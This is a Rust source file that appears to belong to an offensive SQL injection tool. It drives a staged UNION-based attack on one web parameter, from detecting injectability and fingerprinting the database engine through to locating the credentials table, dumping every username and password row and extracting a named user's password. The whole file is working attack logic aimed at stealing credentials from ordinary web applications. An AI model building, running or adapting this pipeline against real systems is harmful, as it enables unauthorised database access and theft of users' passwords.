//! Staged UNION-based SQL injection reconnaissance
//!
//! Each stage probes the target through an [`Oracle`], classifies the answers
//! and hands one new fact to the next stage:
//!
//! vulnerability → comment style → column count → (text column) → engine →
//! (version) → table name → column names → (credentials) → value
//!
//! Stages in parentheses are optional. Every stage is fail-fast and never
//! retried; the first failure ends the run.

pub mod catalog;
pub mod columns;
pub mod comment;
pub mod detect;
pub mod engine;
pub mod extract;
pub mod payload;
pub mod schema;
pub mod scrape;

use crate::config::ReconConfig;
use crate::error::{Result, TiresiasError};
use crate::http::Oracle;
use crate::logger::Logger;
use crate::models::{
    set_once, ExtractedValue, PipelineState, ProbeResult, ReconReport, Stage, UnionShape,
};
use async_trait::async_trait;
use catalog::{Signature, SIGNATURES};
use chrono::Local;
use schema::SchemaMarkers;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Instant;

/// Knobs for a pipeline run
#[derive(Debug, Clone)]
pub struct PipelineOptions {
    pub column_ceiling: usize,
    pub comment_tokens: Vec<String>,
    pub catalog: Vec<Signature>,
    pub markers: SchemaMarkers,
    pub target_user: String,
    pub locate_text_column: bool,
    pub text_marker: String,
    pub fetch_version: bool,
    pub dump_credentials: bool,
    pub concat_separator: String,
    pub stop_after: Option<Stage>,
}

impl Default for PipelineOptions {
    fn default() -> Self {
        Self::from_config(&ReconConfig::default())
    }
}

impl PipelineOptions {
    pub fn from_config(config: &ReconConfig) -> Self {
        Self {
            column_ceiling: config.column_ceiling,
            comment_tokens: config.comment_tokens.clone(),
            catalog: SIGNATURES.to_vec(),
            markers: config.markers.clone(),
            target_user: config.target_user.clone(),
            locate_text_column: config.locate_text_column,
            text_marker: config.text_marker.clone(),
            fetch_version: config.fetch_version,
            dump_credentials: config.dump_credentials,
            concat_separator: config.concat_separator.clone(),
            stop_after: config.stop_after,
        }
    }

    /// Optional stages run when enabled or when the run is asked to stop there
    fn runs(&self, stage: Stage) -> bool {
        let enabled = match stage {
            Stage::TextColumn => self.locate_text_column,
            Stage::Version => self.fetch_version,
            Stage::Credentials => self.dump_credentials,
            _ => true,
        };
        enabled || self.stop_after == Some(stage)
    }
}

/// Counts the probes one run sends through the caller's oracle
struct Counted<'a> {
    inner: &'a dyn Oracle,
    probes: AtomicU64,
}

#[async_trait]
impl Oracle for Counted<'_> {
    async fn probe(&self, url: &str) -> Result<ProbeResult> {
        self.probes.fetch_add(1, Ordering::Relaxed);
        self.inner.probe(url).await
    }
}

/// Orchestrates the stages against a single injectable parameter
pub struct Pipeline<'a> {
    oracle: &'a dyn Oracle,
    log: Logger,
    options: PipelineOptions,
}

/// Progress of a run; owns the state and the stages completed so far
struct Run {
    state: PipelineState,
    completed: Vec<Stage>,
    stop_after: Option<Stage>,
}

impl Run {
    /// Records `stage` as done and reports whether the run should end here
    fn finish(&mut self, stage: Stage) -> bool {
        self.completed.push(stage);
        self.stop_after == Some(stage)
    }
}

impl<'a> Pipeline<'a> {
    pub fn new(oracle: &'a dyn Oracle, log: Logger, options: PipelineOptions) -> Self {
        Self {
            oracle,
            log,
            options,
        }
    }

    /// Runs every stage in order against `base_url`, the URL of the injectable
    /// parameter up to and including its original value.
    pub async fn run(&self, base_url: &str) -> Result<ReconReport> {
        let started_at = Local::now();
        let clock = Instant::now();
        let mut run = Run {
            state: PipelineState::new(base_url),
            completed: Vec::new(),
            stop_after: self.options.stop_after,
        };

        let counted = Counted {
            inner: self.oracle,
            probes: AtomicU64::new(0),
        };

        let outcome = self.drive(&counted, &mut run).await;
        if let Err(ref e) = outcome {
            self.log.fatal(e);
        }
        outcome?;

        Ok(ReconReport {
            target: base_url.to_string(),
            state: run.state,
            completed: run.completed,
            probes: counted.probes.load(Ordering::Relaxed),
            started_at,
            duration_ms: clock.elapsed().as_millis() as u64,
        })
    }

    async fn drive(&self, oracle: &dyn Oracle, run: &mut Run) -> Result<()> {
        let log = &self.log;
        let base = run.state.base_url.clone();

        log.action("Checking whether the parameter is injectable");
        if !detect::is_vulnerable(oracle, log, &base).await {
            return Err(TiresiasError::NotVulnerable { url: base }.in_stage(Stage::Vulnerability));
        }
        log.success(format!("Injectable: {base}"));
        if run.finish(Stage::Vulnerability) {
            return Ok(());
        }

        log.action("Resolving comment style");
        let token =
            comment::resolve_comment_token(oracle, log, &base, &self.options.comment_tokens)
                .await
                .map_err(|e| e.in_stage(Stage::CommentStyle))?;
        log.success(format!("Comment style: {token:?}"));
        set_once(&mut run.state.comment_token, token.clone());
        if run.finish(Stage::CommentStyle) {
            return Ok(());
        }

        log.action("Counting result-set columns");
        let column_count = columns::resolve_column_count(
            oracle,
            log,
            &base,
            &token,
            self.options.column_ceiling,
        )
        .await
        .map_err(|e| e.in_stage(Stage::ColumnCount))?;
        log.success(format!("Column count: {column_count}"));
        set_once(&mut run.state.column_count, column_count);
        if run.finish(Stage::ColumnCount) {
            return Ok(());
        }

        let mut shape = UnionShape::new(column_count);
        if self.options.runs(Stage::TextColumn) {
            log.action("Locating a column that accepts strings");
            let slot = columns::locate_text_column(
                oracle,
                log,
                &base,
                &token,
                column_count,
                &self.options.text_marker,
            )
            .await
            .map_err(|e| e.in_stage(Stage::TextColumn))?;
            log.success(format!("Text column: {slot}"));
            set_once(&mut run.state.text_column, slot);
            shape = shape.with_slot(slot);
            if run.finish(Stage::TextColumn) {
                return Ok(());
            }
        }

        log.action("Fingerprinting the backend engine");
        let signature =
            engine::identify_engine(oracle, log, &base, &token, shape, &self.options.catalog)
                .await
                .map_err(|e| e.in_stage(Stage::Engine))?;
        log.success(format!("Engine: {}", signature.engine));
        set_once(&mut run.state.signature, signature);
        if run.finish(Stage::Engine) {
            return Ok(());
        }

        if self.options.runs(Stage::Version) {
            log.action("Reading the version banner");
            let version = engine::read_version(oracle, log, &base, &token, shape, &signature)
                .await
                .map_err(|e| e.in_stage(Stage::Version))?;
            log.success(format!("Version: {version}"));
            set_once(&mut run.state.version, version);
            if run.finish(Stage::Version) {
                return Ok(());
            }
        }

        log.action("Looking for the credentials table");
        let table = schema::discover_table(
            oracle,
            log,
            &base,
            &token,
            shape,
            &signature,
            &self.options.markers.table,
        )
        .await
        .map_err(|e| e.in_stage(Stage::TableName))?;
        log.success(format!("Credentials table: {table}"));
        set_once(&mut run.state.table_name, table.clone());
        if run.finish(Stage::TableName) {
            return Ok(());
        }

        log.action("Looking for the username and password columns");
        let credential_columns = schema::discover_credential_columns(
            oracle,
            log,
            &base,
            &token,
            shape,
            &signature,
            &table,
            &self.options.markers,
        )
        .await
        .map_err(|e| e.in_stage(Stage::ColumnNames))?;
        log.success(format!(
            "Username column: {}, password column: {}",
            credential_columns.username, credential_columns.password
        ));
        set_once(
            &mut run.state.username_column,
            credential_columns.username.clone(),
        );
        set_once(
            &mut run.state.password_column,
            credential_columns.password.clone(),
        );
        if run.finish(Stage::ColumnNames) {
            return Ok(());
        }

        if self.options.runs(Stage::Credentials) {
            log.action(format!("Reading every row of {table} through one column"));
            let rows = extract::extract_all(
                oracle,
                log,
                &base,
                &token,
                shape,
                &signature,
                &table,
                &credential_columns,
                &self.options.concat_separator,
            )
            .await
            .map_err(|e| e.in_stage(Stage::Credentials))?;
            for row in &rows {
                log.info(format!("{}: {}", row.user, row.value));
            }
            log.success(format!("Read {} credential rows", rows.len()));
            set_once(&mut run.state.credentials, rows);
            if run.finish(Stage::Credentials) {
                return Ok(());
            }
        }

        let user = self.options.target_user.as_str();
        log.action(format!("Extracting the password of {user}"));
        let value = extract::extract_value(
            oracle,
            log,
            &base,
            &token,
            shape,
            &table,
            &credential_columns,
            user,
        )
        .await
        .map_err(|e| e.in_stage(Stage::Value))?;
        log.success(format!("Password for {user}: {value}"));
        set_once(
            &mut run.state.extracted,
            ExtractedValue {
                user: user.to_string(),
                value,
            },
        );
        run.finish(Stage::Value);

        Ok(())
    }
}
